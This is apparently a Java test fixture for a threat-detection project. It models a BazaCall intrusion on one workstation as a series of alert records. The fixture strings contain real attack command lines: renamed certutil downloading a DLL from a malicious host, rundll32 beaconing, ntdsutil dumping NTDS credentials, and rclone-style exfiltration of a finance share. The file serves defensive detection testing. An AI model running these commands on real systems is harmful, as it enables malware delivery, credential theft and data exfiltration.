package dev.bazahunt.campaign;

import dev.bazahunt.alert.AlertIds;
import dev.bazahunt.rules.CampaignStage;
import dev.bazahunt.rules.RuleCatalog;
import dev.bazahunt.rules.RuleDefinition;
import dev.bazahunt.rules.RuleIds;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;

/**
 * A BazaCall intrusion on one workstation, hit by hit, the way Microsoft's write-up tells it: the lure
 * email, the workbook from the fake call centre's /cancel.php page, the macro copying certutil, the
 * renamed certutil fetching BazaLoader, rundll32 beaconing, ntdsutil taking NTDS, rclone exfiltrating.
 */
final class CampaignFixtures {
    static final String DEVICE = "b2c4e6a8f0123456789abcdef0123456789abcde";
    static final String DEVICE_NAME = "wks-0142.contoso.local";
    static final String UPN = "J.Doe@Contoso.com";
    static final Instant EMAIL = Instant.parse("2021-07-19T09:12:40.5000000Z");
    static final Instant T0 = Instant.parse("2021-07-20T14:01:12.2500000Z");

    /** The standard rules: the pack's, whose file names each stage, and the incident rule. */
    static final RuleCatalog CATALOG = RuleCatalog.standard();

    private CampaignFixtures() {}

    static CampaignIncidents incidents() {
        return new CampaignIncidents(CATALOG, Duration.ofHours(48));
    }

    static RuleDefinition ruleOf(CampaignStage stage) {
        if (stage == CampaignStage.CERTUTIL_DOWNLOAD) {
            return CATALOG.byId(RuleIds.CERTUTIL_DOWNLOAD);
        }
        return CATALOG.all().stream()
                .filter(rule -> rule.campaignStage() == stage && !rule.id().equals(RuleIds.CERTUTIL_DOWNLOAD_HARDENED))
                .findFirst().orElseThrow();
    }

    static long nanos(Instant at) {
        return at.getEpochSecond() * 1_000_000_000L + at.getNano();
    }

    /** A device row of {@code stage}, alert named by its process instance {@code pid}, {@code at}. */
    static CampaignHit deviceHit(CampaignStage stage, long pid, Instant at, long reportId, String upn) {
        RuleDefinition rule = ruleOf(stage);
        CampaignHit hit = new CampaignHit();
        hit.deviceId = DEVICE;
        hit.deviceName = DEVICE_NAME;
        hit.stage = stage;
        hit.ruleId = rule.id();
        hit.alertId = AlertIds.of(rule.id(), DEVICE + "|pid|" + pid + "|1626789000");
        hit.timestamp = nanos(at);
        hit.reportId = reportId;
        hit.account = CampaignHit.normaliseAccount(upn);
        Map<String, String> look = LOOK.get(stage);
        hit.fileName = look.get("file");
        hit.processCommandLine = look.get("cmd");
        hit.folderPath = look.get("path");
        hit.url = look.get("url");
        hit.remoteIp = look.get("ip");
        return hit;
    }

    /** The lure email to {@code recipient}, not joined to any device yet. */
    static CampaignHit email(String networkMessageId, Instant at, String recipient) {
        RuleDefinition rule = ruleOf(CampaignStage.EMAIL_LURE);
        CampaignHit hit = new CampaignHit();
        hit.stage = CampaignStage.EMAIL_LURE;
        hit.ruleId = rule.id();
        hit.alertId = AlertIds.of(rule.id(), networkMessageId);
        hit.networkMessageId = networkMessageId;
        hit.timestamp = nanos(at);
        hit.account = CampaignHit.normaliseAccount(recipient);
        hit.sender = "billing@premium-movies-club.com";
        hit.subject = "Your free trial KMR230041186 is about to end!";
        return hit;
    }

    /** Every stage on the device, joined email included, two days' worth. */
    static List<CampaignHit> fullChain() {
        CampaignHit excel = deviceHit(CampaignStage.EXCEL_DELIVERY, 4120, T0, 18001, UPN);
        return List.of(
                email("7e1b2f7c-0d6a-4a55-9d53-1f0a8e2a3c11", EMAIL, UPN).joinedTo(excel),
                excel,
                deviceHit(CampaignStage.EXCEL_MACRO, 5120, T0.plusSeconds(95), 18040, UPN),
                deviceHit(CampaignStage.CERTUTIL_DOWNLOAD, 7212, T0.plusSeconds(106), 18342, UPN),
                deviceHit(CampaignStage.BAZALOADER_C2, 7390, T0.plusSeconds(140), 18400, UPN),
                deviceHit(CampaignStage.CREDENTIAL_THEFT, 9012, T0.plus(Duration.ofHours(20)), 21007, UPN),
                deviceHit(CampaignStage.EXFILTRATION, 9930, T0.plus(Duration.ofHours(31)), 23890, UPN));
    }

    private static final Map<CampaignStage, Map<String, String>> LOOK = Map.of(
            CampaignStage.EXCEL_DELIVERY, Map.of("file", "msedge.exe",
                    "cmd", "\"msedge.exe\" --single-argument https://bomovie.net/cancel.php",
                    "path", "C:\\Users\\j.doe\\Downloads\\cancel_sub_KMR230041186.xlsb",
                    "url", "https://bomovie.net/cancel.php"),
            CampaignStage.EXCEL_MACRO, Map.of("file", "cmd.exe",
                    "cmd", "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe"
                            + " C:\\Users\\Public\\x8k2\\x8k2.exe"),
            CampaignStage.CERTUTIL_DOWNLOAD, Map.of("file", "x8k2.exe",
                    "cmd", "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php"
                            + " C:\\Users\\Public\\x8k2\\tmp1834.dll",
                    "path", "C:\\Users\\Public\\x8k2\\tmp1834.dll"),
            CampaignStage.BAZALOADER_C2, Map.of("file", "rundll32.exe",
                    "cmd", "rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut",
                    "url", "pshe0pxe339.xyz", "ip", "185.99.133.20"),
            CampaignStage.CREDENTIAL_THEFT, Map.of("file", "ntdsutil.exe",
                    "cmd", "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\abc\" q q"),
            CampaignStage.EXFILTRATION, Map.of("file", "svchost64.exe",
                    "cmd", "svchost64.exe copy \\\\fs01\\finance remote:exfil --transfers 16 --max-age 1y"),
            CampaignStage.EMAIL_LURE, Map.of());
}
